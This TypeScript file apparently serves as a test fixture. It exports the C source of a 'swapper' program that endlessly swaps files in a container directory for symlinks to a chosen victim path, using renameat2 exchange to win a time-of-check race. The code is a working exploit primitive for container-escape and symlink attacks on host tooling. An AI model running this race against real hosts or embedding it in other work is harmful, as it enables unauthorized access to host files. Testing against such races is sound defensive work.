/** A container's program that puts links in the place of whatever arrives, the moment it is there. */
export const swapper = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
/* swapper DIRECTORY VICTIM COUNT: swaps each of p0, p1, ... for a link, again and again. */
int main(int argc, char **argv) {
  char link[32], name[32];
  int count = atoi(argv[3]);
  if (argc != 4 || chdir(argv[1]) != 0) return 1;
  for (;;) {
    for (int i = 0; i < count; i++) {
      sprintf(link, "l%d", i);
      unlink(link);
      rmdir(link);
      symlink(argv[2], link);
    }
    for (int i = 0; i < count; i++) {
      sprintf(link, "l%d", i);
      sprintf(name, "p%d", i);
      while (syscall(SYS_renameat2, AT_FDCWD, link, AT_FDCWD, name, 2) != 0) {
      }
    }
  }
}
`;
